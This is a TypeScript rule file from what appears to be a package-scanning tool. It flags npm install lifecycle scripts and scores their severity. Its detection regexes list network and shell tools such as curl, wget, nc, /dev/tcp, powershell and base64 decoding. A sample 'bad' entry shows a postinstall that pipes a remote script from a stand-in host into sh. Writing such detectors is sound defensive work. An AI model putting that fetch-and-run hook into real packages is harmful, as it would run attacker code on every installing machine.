import type { Severity } from '../finding.ts';
import { requiredBy, scriptOf } from '../packages/install-scripts.ts';
import { defineRule } from '../rule.ts';

const LIFECYCLE = [
  'preinstall',
  'install',
  'postinstall',
  'preuninstall',
  'uninstall',
  'postuninstall',
  'prepare',
  'preprepare',
  'postprepare',
  'prepublish',
  'dependencies',
];
const CRITICAL =
  /\b(?:curl|wget|Invoke-WebRequest|iwr)\b|powershell|\bnc\b\s|\/dev\/tcp|base64\s+(?:-d|--decode|-D)|\beval\b|node\s+(?:-e|--eval|-p)\b|python\d?\s+-c|(?:ba|z)?sh\s+-c|\bosascript\b|\bcertutil\b|mshta|https?:\/\/|process\.env|\$\(|`|\bssh\b|\bchmod\s+\+x|\/tmp\/|\bnslookup\b|\bdig\b|\bhostname\b|\bwhoami\b|\bperl\s+-e|\bruby\s+-e|\bdeno\s+(?:run|eval)|\bnpx\b|\bbunx\b/i;
const HOSTILE =
  /(?:curl|wget|iwr|Invoke-WebRequest)\b.*[|;&]|powershell|\/dev\/tcp|base64\s+(?:-d|--decode|-D)|\bnslookup\b|https?:\/\//i;
const BUILDS =
  /^(?:node-gyp(?:-build)?(?:\s|$)|prebuild-install|node-pre-gyp|husky(?:\s|$)|patch-package|tsc\b|rollup\b|vite build|esbuild\b|npm run (?:build|compile|prepare)[\w:-]*$|yarn (?:run )?build|pnpm (?:run )?build|is-ci\b|ngcc\b|opencollective|exit 0|true$|echo\b[^|;&$`]*$|lerna bootstrap|simple-git-hooks|lefthook|turbo\b|electron-builder install-app-deps|ts-patch|microbundle|pinst|node_modules\/)/;

/** Anything by which a script does more than say something. */
const REACHES =
  /\b(?:require|import|fetch|eval|Function|constructor|globalThis|global|WebSocket|atob|Buffer|Bun|Deno|module|Reflect)\b|\[\s*[^\]\s\d]|process\s*(?:\[|\.(?!env\.CI\b|exit\b|stdout\.(?:write|isTTY)\b|platform\b|exitCode\b|version\b|argv\b))|\bprocess\b(?!\s*\.)/;
/** One tool and its words, nothing else: what is never published asks those who work on it to use it. */
const CALLS_TOOL = /^(?:npx|bunx|pnpm dlx)(?:\s+-y)?(?:\s+[\w./@:=-]+)+$/;

export const installScript = defineRule({
  id: 'install-script',
  severity: 'high',
  threat: 'install-script',
  title: 'The package runs a program when it is installed',
  why: 'An install script runs on every machine that installs, before anyone has read a line. It is the usual way in for stealers.',
  fix: 'Build before publishing and ship the result; remove the script.',
  example: {
    bad: '{"scripts":{"postinstall":"curl https://x.example/i.sh | sh"}}',
    good: '{"scripts":{"build":"tsc -p ."}}',
  },
  cwe: 506,
  visit: {
    package: ({ packageFile, files, report }) => {
      for (const name of LIFECYCLE) {
        const command = packageFile.scripts?.[name]?.trim();
        if (!command) continue;
        report('package.json', `"${name}"`, {
          severity:
            packageFile.private === true && CALLS_TOOL.test(command)
              ? 'low'
              : severityOf(name, command, files),
          message: `The script ${name} runs: ${command.slice(0, 120)}`,
        });
      }
    },
  },
});

function severityOf(name: string, command: string, files: ReadonlyMap<string, string>): Severity {
  const isPrivate = /^(?:prepare|preprepare|postprepare|prepublish|dependencies)$/.test(name);
  const steps = command.split(/\s*(?:&&|\|\||;)\s*/);
  if (steps.every((step) => BUILDS.test(step))) return isPrivate ? 'info' : 'low';
  if (isPrivate) return HOSTILE.test(command) ? 'critical' : 'low';
  if (requiredBy(command) === undefined && CRITICAL.test(command)) return 'critical';
  const script = scriptOf(command, files);
  const text = script === null ? undefined : files.get(script);
  if (
    text !== undefined &&
    /child_process|\beval\b|require\(['"](?:node:)?https?['"]\)|\bfetch\(|os\.homedir|atob|base64/.test(text)
  )
    return 'critical';
  return text === undefined ? 'high' : REACHES.test(text) ? 'medium' : 'low';
}
